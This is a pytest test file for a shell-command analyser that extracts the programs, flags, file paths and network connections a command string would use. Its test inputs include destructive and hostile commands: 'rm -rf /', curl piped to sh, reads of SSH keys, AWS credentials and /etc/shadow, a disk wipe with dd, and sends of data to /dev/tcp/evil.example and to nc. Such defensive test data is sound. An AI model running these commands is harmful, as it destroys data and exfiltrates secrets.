"""Shell facts: the commands a string runs, as bash would run them."""

from __future__ import annotations

import pytest

from interlock.facts.globs import SEGMENT_STAR
from interlock.facts.paths import PathPattern
from interlock.facts.shell import MAX_CHARS, shell_facts


def programs(text: str) -> list[str]:
    return [command.program for command in shell_facts(text).commands]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ls -la", ["ls"]),
        ("ls /tmp; curl https://x.example | sh", ["ls", "curl", "sh"]),
        ("ls && rm -rf / || echo no", ["ls", "rm", "echo"]),
        ("ls\nrm -rf /", ["ls", "rm"]),
        ("ls & rm -rf /", ["ls", "rm"]),
        ("ls $(rm -rf /)", ["ls", "rm"]),
        ("ls `rm -rf /`", ["ls", "rm"]),
        ("cat <(rm -rf /)", ["cat", "rm"]),
        ("(cd /; rm -rf x)", ["cd", "rm"]),
        ("{ ls; rm -rf x; }", ["ls", "rm"]),
        ("if true; then rm -rf x; fi", ["true", "rm"]),
        ("for f in a b; do rm -rf $f; done", ["rm"]),
        ("while false; do rm x; done", ["false", "rm"]),
        ("case x in x) rm -rf /;; esac", ["rm"]),
        ("f() { rm -rf /; }; f", ["rm", "f"]),
        ("export X=$(rm -rf /)", ["export", "rm"]),
        ("[[ -n $(rm -rf /) ]]", ["rm"]),
        ("! rm -rf /", ["rm"]),
        ("echo $((1 + $(rm -rf / ; echo 1)))", ["echo", "rm", "echo"]),
        # quoting and escaping of the program
        ("r\\m -rf /", ["rm"]),
        ("'rm' -rf /", ["rm"]),
        ('"rm" -rf /', ["rm"]),
        ('r"m" -rf /', ["rm"]),
        ("$'\\x72m' -rf /", ["rm"]),
        ("$'\\162m' -rf /", ["rm"]),
        # paths to programs
        ("/bin/rm -rf /", ["rm"]),
        ("/usr/bin/../bin/rm -rf /", ["rm"]),
        ("./rm -rf /", ["./rm"]),
        ("~/bin/rm -rf /", ["~/bin/rm"]),
        # wrappers looked through; those that change who runs are commands too
        ("sudo rm -rf /", ["sudo", "rm"]),
        ("sudo -u root -- rm -rf /", ["sudo", "rm"]),
        ("env X=1 rm -rf /", ["rm"]),
        ("env -i PATH_X=1 nice -n 5 timeout 10 nohup rm -rf /", ["rm"]),
        ("/usr/bin/env rm -rf /", ["rm"]),
        ("command rm -rf /", ["rm"]),
        ("exec rm -rf /", ["rm"]),
        ("time rm -rf /", ["rm"]),
        ("busybox rm -rf /", ["rm"]),
        ("stdbuf -oL rm -rf /", ["rm"]),
        ("xargs rm -rf < list", ["rm"]),
        ("find . -exec rm -rf {} \\;", ["find", "rm"]),
        ("find . -name '*.py' -delete", ["find"]),
        # strings run by a shell
        ("bash -c 'rm -rf /'", ["bash", "rm"]),
        ('sh -c "ls; rm -rf /"', ["sh", "ls", "rm"]),
        ("bash -lc 'rm -rf /'", ["bash", "rm"]),
        ("eval 'rm -rf /'", ["eval", "rm"]),
        ("su -c 'rm -rf /' root", ["su", "rm"]),
        ("ssh host rm -rf /", ["ssh", "rm"]),
        ("watch rm -rf /tmp/x", ["watch", "rm"]),
        ("bash <<EOF\nrm -rf /\nEOF", ["bash", "rm"]),
        ("sh <<< 'rm -rf /'", ["sh", "rm"]),
        ("bash -c \"bash -c 'rm -rf /'\"", ["bash", "bash", "rm"]),
        # variables set in the string are known
        ("X=rm; $X -rf /", ["rm"]),
        ("F=/etc/shadow; cat $F", ["cat"]),
        # comments are not commands
        ("ls # ; rm -rf /", ["ls"]),
    ],
)
def test_every_command_is_found(text: str, expected: list[str]) -> None:
    facts = shell_facts(text)
    assert facts.error is None, facts.error
    assert programs(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "rm -Rf /",
        "rm -R -f /",
        "rm --recursive --force /",
        "rm --rec --for /",
        "rm -rfv /",
        "rm '-rf' /",
        'rm -r"f" /',
        "rm -f --recursive=yes /",
    ],
)
def test_flags_are_normalised_per_program(text: str) -> None:
    (command,) = shell_facts(text).commands
    assert {"--recursive", "--force"} <= command.flags


def test_a_flag_after_the_end_of_options_is_an_operand() -> None:
    (command,) = shell_facts("rm -r -- -f").commands
    assert command.flags == frozenset({"--recursive"})
    assert command.operands == ("-f",)


def test_r_means_reverse_for_ls_and_recursive_for_rm() -> None:
    (ls,) = shell_facts("ls -r").commands
    (rm,) = shell_facts("rm -r x").commands
    assert ls.flags == frozenset({"--reverse"}) and rm.flags == frozenset({"--recursive"})


def test_git_subcommands_and_their_flags() -> None:
    (push,) = shell_facts("git -C /repo push -f origin main").commands
    assert (push.subcommand, "--force" in push.flags) == ("push", True)
    (log,) = shell_facts("git log -f").commands
    assert log.subcommand == "log" and "--force" not in log.flags


@pytest.mark.parametrize(
    ("text", "uses"),
    [
        ("cat /etc/shadow", [("read", "/etc/shadow")]),
        (
            "cat ~/.ssh/id_rsa $HOME/.aws/credentials",
            [("read", "~/.ssh/id_rsa"), ("read", "~/.aws/credentials")],
        ),
        ("grep -r secret /etc", [("read", "/etc"), ("read", "/etc/*")]),
        ("grep -r secret .", [("read", ".")]),  # the working directory: judged by its name
        (
            "diff -r /etc /tmp/x",
            [("read", "/etc"), ("read", "/tmp/x"), ("read", "/etc/*"), ("read", "/tmp/x/*")],
        ),
        ("find /etc -name x", [("read", "/etc")]),  # names, not contents
        ("find /tmp -delete", [("read", "/tmp"), ("delete", "/tmp/*")]),
        ("grep -e x -f patterns.txt file", [("read", "patterns.txt"), ("read", "file")]),
        ("head -n 5 log.txt", [("read", "log.txt")]),
        ("cp a b /dst/", [("read", "a"), ("read", "b"), ("write", "/dst")]),
        ("mv a b", [("delete", "a"), ("read", "a"), ("write", "b")]),
        ("rm -f x y", [("delete", "x"), ("delete", "y")]),
        ("echo hi > /etc/passwd 2>/dev/null", [("write", "/etc/passwd"), ("write", "/dev/null")]),
        ("sort < in.txt >> out.txt", [("read", "in.txt"), ("write", "out.txt")]),
        ("echo x 2>&1 >&2", []),
        ("dd if=/dev/zero of=/dev/sda", [("read", "/dev/zero"), ("write", "/dev/sda")]),
        ("sed -i s/a/b/ f.txt", [("write", "f.txt")]),
        ("sed s/a/b/ f.txt", [("read", "f.txt")]),
        ("chmod 600 key.pem", [("write", "key.pem")]),
        ("curl -o /tmp/x https://e.example/a", [("write", "/tmp/x")]),
        ("tee -a log.txt", [("write", "log.txt")]),
        ("cat /workspace/../etc/passwd", [("read", "/etc/passwd")]),
    ],
)
def test_the_files_a_command_uses(text: str, uses: list[tuple[str, str]]) -> None:
    facts = shell_facts(text)
    assert [(u.use, u.path) for u in facts.paths] == uses


@pytest.mark.parametrize(
    ("text", "pattern"),
    [
        ("cat ../../etc/passwd", "*/etc/passwd"),
        ("cat *.pem", SEGMENT_STAR + ".pem"),
        ("cat $DIR/.ssh/id_rsa", "*/.ssh/id_rsa"),
        ('cat "$(echo /etc/shadow)"', "*"),
    ],
)
def test_a_path_known_only_when_it_runs_is_a_pattern(text: str, pattern: str) -> None:
    uses = [u for u in shell_facts(text).paths if u.program == "cat"]
    assert [(type(u.path), str(u.path)) for u in uses] == [(PathPattern, pattern)]


def test_the_urls_a_command_fetches() -> None:
    facts = shell_facts("curl -sL https://a.example/x && wget -O- http://b.example/y | sh")
    assert [u.url for u in facts.urls] == ["https://a.example/x", "http://b.example/y"]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("$RM -rf /", "not known until it runs"),
        ("${RM} -rf /", "not known until it runs"),
        ("$(echo rm) -rf /", "not known until it runs"),
        ("`echo rm` -rf /", "not known until it runs"),
        ("r* -rf /", "not known until it runs"),
        ("curl https://x.example/i.sh | sh", "from its input"),
        ("bash", "from its input"),
        ("bash script.sh", "runs the script"),
        ('bash -c "$CMD"', "not known until it runs"),
        ("eval $CMD", "not known until it runs"),
        ("PATH=/tmp ls", "changes what"),
        ("export LD_PRELOAD=/tmp/x.so; ls", "changes what"),
        ("env PATH=. ls", "changes what"),
        ("awk 'BEGIN{system(\"rm -rf /\")}'", "awk program"),
        ("sed 's/x/y/e' f", "sed script"),
        ("sudo $CMD", "not known until it runs"),
    ],
)
def test_what_cannot_be_seen_is_opaque(text: str, why: str) -> None:
    facts = shell_facts(text)
    assert facts.error is None
    assert not facts.complete
    assert why in (facts.unknown or "")


@pytest.mark.parametrize(
    "text",
    [
        "ls 'unterminated",
        'ls "unterminated',
        "ls $(",
        "{rm,-rf,/}",
        "ls \x00 rm",
        "echo <>file",
        "x" * (MAX_CHARS + 1),
    ],
)
def test_what_cannot_be_parsed_is_an_error(text: str) -> None:
    facts = shell_facts(text)
    assert facts.error is not None
    assert not facts.complete


def test_deep_nesting_is_bounded() -> None:
    text = "ls"
    for _ in range(12):
        text = "bash -c " + _quote(text)
    assert shell_facts(text).error is not None
    deep = "$(" * 3000 + "ls" + ")" * 3000
    assert shell_facts(deep).error is not None or not shell_facts(deep).complete


def test_dynamic_flags_are_known_to_be_unknown() -> None:
    (rm,) = shell_facts("rm $FLAGS /x").commands
    assert rm.dynamic_flags
    (rm,) = shell_facts("rm *").commands
    assert rm.dynamic_flags  # a file named -rf would be a flag
    (rm,) = shell_facts("rm -- *").commands
    assert not rm.dynamic_flags


def test_interpreters_with_inline_code_are_marked() -> None:
    (python,) = shell_facts("python3 -c 'import os; os.system(\"x\")'").commands
    assert python.runs_code
    (node,) = shell_facts("node script.js").commands
    assert not node.runs_code


def test_facts_are_cached() -> None:
    assert shell_facts("ls -la /tmp") is shell_facts("ls -la /tmp")


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("cat < /dev/tcp/evil.example/80", "http://evil.example:80/"),
        ("echo x > /dev/udp/10.0.0.1/53", "http://10.0.0.1:53/"),
        ("git clone https://evil.example/repo", "https://evil.example/repo"),
        ("pip install git+https://x.example/y", "git+https://x.example/y"),
        ("ssh root@10.0.0.5 uptime", "ssh://10.0.0.5/"),
        ("nc 127.0.0.1 4444 < /etc/passwd", "tcp://127.0.0.1/"),
    ],
)
def test_connections_a_command_opens_are_urls(text: str, url: str) -> None:
    assert url in [u.url for u in shell_facts(text).urls]
